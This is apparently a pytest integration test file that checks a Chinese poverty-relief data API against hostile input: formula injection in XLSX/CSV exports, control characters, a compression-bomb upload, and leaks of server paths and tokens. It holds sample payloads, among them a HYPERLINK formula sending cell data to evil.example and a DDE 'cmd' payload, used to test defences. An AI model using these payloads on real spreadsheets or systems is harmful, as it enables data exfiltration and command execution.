"""Data in and out through the API, attacked (issue 12): formulas and control characters in the exports,
hostile uploads (a compression bomb, formula-like file names and cells, ID numbers where numbers go), dates
that do not exist, and job output that named server paths and token ids.

Unit twins (no database): tests/unit/test_hardening_data.py."""
import csv
import io
import json
import time

import openpyxl
import pytest

from core.settings import PROJECT_ROOT
from graph import views
from services import exports
from tests.integration.api_world import OWN_COUNTY
from tests.support import bureau_files as bf
from tests.support import hostile_files as hostile

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"查看详情")'
ID_NUMBER = bf.id_number("43312319730318001")


def _wait_for_job(api, location, as_="bureau_own", timeout_s=240):
    deadline = time.monotonic() + timeout_s
    while True:
        job = api.get(location, as_=as_).get_json()
        if job["status"] in ("completed", "failed") or time.monotonic() > deadline:
            return job
        time.sleep(0.3)


def _upload(api, path, name, as_="bureau_own"):
    with open(path, "rb") as handle:
        started = api.post("/api/v1/uploads", as_=as_, content_type="multipart/form-data",
                           data={"file": (handle, name)})
    assert started.status_code == 202, started.get_data(as_text=True)
    return started.headers["Location"], _wait_for_job(api, started.headers["Location"], as_)


def _report(api, location, as_="bureau_own") -> list[list[str]]:
    response = api.get(f"{location}/report.csv", as_=as_)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _sheet(response) -> list:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2))


def _store(driver, query: str, **parameters) -> None:
    """Write straight into the graph what the API (now) refuses: the data already stored before the fix."""
    driver.execute_query(query, parameters)


@pytest.fixture
def restore_own_records(neo4j_driver, world):
    """Put back the own household's name and the own partnership's note after a test stored hostile ones."""
    household = neo4j_driver.execute_query("MATCH (h:Household {household_id: $id}) RETURN h.head_name AS name",
                                           id=world.own_household).records[0]["name"]
    note = neo4j_driver.execute_query("MATCH (p:Partnership {partnership_id: $id}) RETURN p.note AS note",
                                      id=world.ids["own_partnership"]).records[0]["note"]
    yield
    _store(neo4j_driver, "MATCH (h:Household {household_id: $id}) SET h.head_name = $name", id=world.own_household,
           name=household)
    _store(neo4j_driver, "MATCH (p:Partnership {partnership_id: $id}) SET p.note = $note",
           id=world.ids["own_partnership"], note=note)


# --- 1. formula injection -------------------------------------------------------------------------

# The ledger export names no internal partnership id: a row is found by its household, enterprise and start date.
LEDGER_HEADER = [title for _, title in exports.LEDGER_COLUMNS]
HOUSEHOLD, ENTERPRISE, START, NOTE = (LEDGER_HEADER.index(title) for title in ("户编号", "统一社会信用代码", "开始日期",
                                                                               "帮扶措施"))


def _is_row(row, partnership: dict) -> bool:
    return (row[HOUSEHOLD].value, row[ENTERPRISE].value, row[START].value) == (
        partnership["household_id"], partnership["credit_code"], partnership["start_date"])


def test_a_formula_in_a_ledger_note_is_text_in_the_export(api, world, restore_own_records):
    partnership = world.ids["own_partnership"]
    patched = api.patch(f"/api/v1/partnerships/{partnership}", as_="bureau_own", json={"note": HYPERLINK})
    assert patched.status_code == 200 and patched.get_json()["note"] == HYPERLINK, "kept as the bureau typed it"
    row_of = patched.get_json()
    rows = _sheet(api.get(f"/api/v1/partnerships/export.xlsx?household_id={row_of['household_id']}", as_="bureau_own"))
    [note] = [row[NOTE] for row in rows if _is_row(row, row_of)]
    assert note.data_type == "s" and note.value == HYPERLINK and note.quotePrefix


def test_a_formula_in_a_household_name_is_text_in_the_export(api, world, neo4j_driver, restore_own_records):
    _store(neo4j_driver, "MATCH (h:Household {household_id: $id}) SET h.head_name = $name", id=world.own_household,
           name="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = _sheet(api.get(f"/api/v1/households/export.xlsx?county={OWN_COUNTY}&page_size=5000", as_="bureau_own"))
    [name] = [row[1] for row in rows if row[0].value == world.own_household]
    assert name.data_type == "s" and name.value.startswith("@SUM") and name.quotePrefix
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert any(cell.data_type == "n" for row in rows for cell in row), "numbers stay numbers"


def test_formula_like_file_names_and_cells_are_escaped_in_the_report(api, tmp_path):
    rows = [bf.household_row(931, cause="=1+2+HYPERLINK(\"evil.example\")"), bf.household_row(932)]
    rows[1][10] = "-5"
    path = bf.write_table(tmp_path / "upload.csv", bf.HOUSEHOLD_HEADER, rows)
    location, job = _upload(api, path, "=HYPERLINK(evil.example)+贫困户.csv")
    assert job["status"] == "completed", job
    lines = _report(api, location)[1:]
    # The cross-file rules' findings (row 0) name the upload too, or the ledger rows stored before it.
    assert {line[0] for line in lines} == {"'=HYPERLINK(evil.example)+贫困户.csv", "（库中已有的利益联结台账）"}
    values = {line[3]: line[4] for line in lines if line[2] != "0"}
    assert values["主要致贫原因"] == "'=1+2+HYPERLINK(\"evil.example\")" and values["家庭人口数"] == "-5"


# --- 2. control characters -----------------------------------------------------------------------

def test_control_characters_are_refused_in_notes_and_reasons(api, world):
    for text in ("响铃\u0007", "\u0000", "转义\u001b[2J"):
        patched = api.patch(f"/api/v1/partnerships/{world.ids['own_partnership']}", as_="bureau_own",
                            json={"note": text})
        assert patched.status_code == 422 and patched.mimetype == "application/problem+json"
        declined = api.post(f"/api/v1/recommendations/{world.ids['own_rec']}/decline", as_="bureau_own",
                            json={"reason": text})
        assert declined.status_code == 422


def test_stored_control_characters_never_break_the_exports(api, world, neo4j_driver, restore_own_records):
    _store(neo4j_driver, "MATCH (h:Household {household_id: $id}) SET h.head_name = $name", id=world.own_household,
           name="张\u0007三")
    _store(neo4j_driver, "MATCH (p:Partnership {partnership_id: $id}) SET p.note = $note",
           id=world.ids["own_partnership"], note="\u0000每月\u001b回访\ufffe")
    households = _sheet(api.get(f"/api/v1/households/export.xlsx?county={OWN_COUNTY}&page_size=5000",
                                as_="bureau_own"))
    assert [row[1].value for row in households if row[0].value == world.own_household] == ["张三"]
    ledger = _sheet(api.get(f"/api/v1/partnerships/export.xlsx?county={OWN_COUNTY}&page_size=5000",
                            as_="bureau_own"))
    row_of = views.partnership(neo4j_driver, world.ids["own_partnership"])
    assert [row[NOTE].value for row in ledger if _is_row(row, row_of)] == ["每月回访"]


# --- 3. workbooks that expand -------------------------------------------------------------------

def test_a_compression_bomb_upload_is_refused_and_loads_nothing(api, tmp_path):
    bomb = hostile.xlsx_size_bomb(tmp_path / "bomb.xlsx", 2)
    assert bomb.stat().st_size < 20_000
    location, job = _upload(api, bomb, "贫困户.xlsx")
    assert job["status"] == "completed", job
    [summary] = job["result"]["files"]
    assert "压缩比" in summary["error"] and summary["rows_loaded"] == 0 and summary["rows_read"] == 0
    assert api.get("/api/v1/households/4331231012010001", as_="bureau_own").status_code == 404
    assert any("压缩比" in line[6] for line in _report(api, location))


# --- 4. validation gaps ---------------------------------------------------------------------------

def test_an_id_number_as_household_size_is_rejected_and_never_served(api, tmp_path):
    rows = [bf.household_row(n) for n in range(941, 944)]
    rows[0][10] = "三"
    rows[1][10] = ID_NUMBER
    path = bf.write_table(tmp_path / "upload.csv", bf.HOUSEHOLD_HEADER, rows)
    location, job = _upload(api, path, "贫困户.csv")
    assert job["status"] == "completed", job
    [summary] = job["result"]["files"]
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_rejected"]) == (3, 1, 2)
    assert api.get(f"/api/v1/households/{bf.household_id(942)}", as_="bureau_own").status_code == 404
    report = json.dumps(_report(api, location), ensure_ascii=False)
    assert ID_NUMBER not in report and ID_NUMBER[:4] + "*" * 12 in report


# --- 5. dates, server paths, token ids ------------------------------------------------------------

def test_end_dates_must_be_real_calendar_dates(api, world):
    path = f"/api/v1/partnerships/{world.ids['own_partnership']}"
    for day in ("2024-13-45", "2023-02-29", "2024-04-31"):
        refused = api.patch(path, as_="bureau_own", json={"end_date": day})
        assert refused.status_code == 422 and "end_date" in refused.get_json()["detail"]
    accepted = api.patch(path, as_="bureau_own", json={"end_date": "2024-02-29"})
    assert accepted.status_code == 200 and accepted.get_json()["end_date"] == "2024-02-29"


def test_upload_output_names_no_server_path_and_links_its_report(api, tmp_path):
    path = bf.write_table(tmp_path / "upload.csv", bf.HOUSEHOLD_HEADER, [bf.household_row(951)])
    location, job = _upload(api, path, "贫困户.csv")
    assert job["status"] == "completed", job
    listed = api.get("/api/v1/uploads?page_size=100", as_="bureau_own").get_json()
    for shown in (job, listed):
        text = json.dumps(shown, ensure_ascii=False)
        assert str(PROJECT_ROOT) not in text and "/var/" not in text, text
    assert "report" not in job["result"] and job["report_url"] == f"{location}/report.csv"
    assert api.get(job["report_url"], as_="bureau_own").status_code == 200


def test_match_runs_name_their_requester_not_the_token(api, world):
    started = api.post("/api/v1/match-runs", as_="bureau_own", json={"county_code": OWN_COUNTY})
    assert started.status_code == 202, started.get_data(as_text=True)
    run = _wait_for_job(api, started.headers["Location"])
    assert run["status"] == "completed", run
    for role in ("analyst", "admin", "bureau_own"):
        seen = api.get(started.headers["Location"], as_=role).get_json()
        assert seen["requested_by"] == "test bureau_own（商务局）"
        listed = api.get("/api/v1/match-runs?page_size=100", as_=role).get_data(as_text=True)
        assert "tok_" not in json.dumps(seen) and "tok_" not in listed
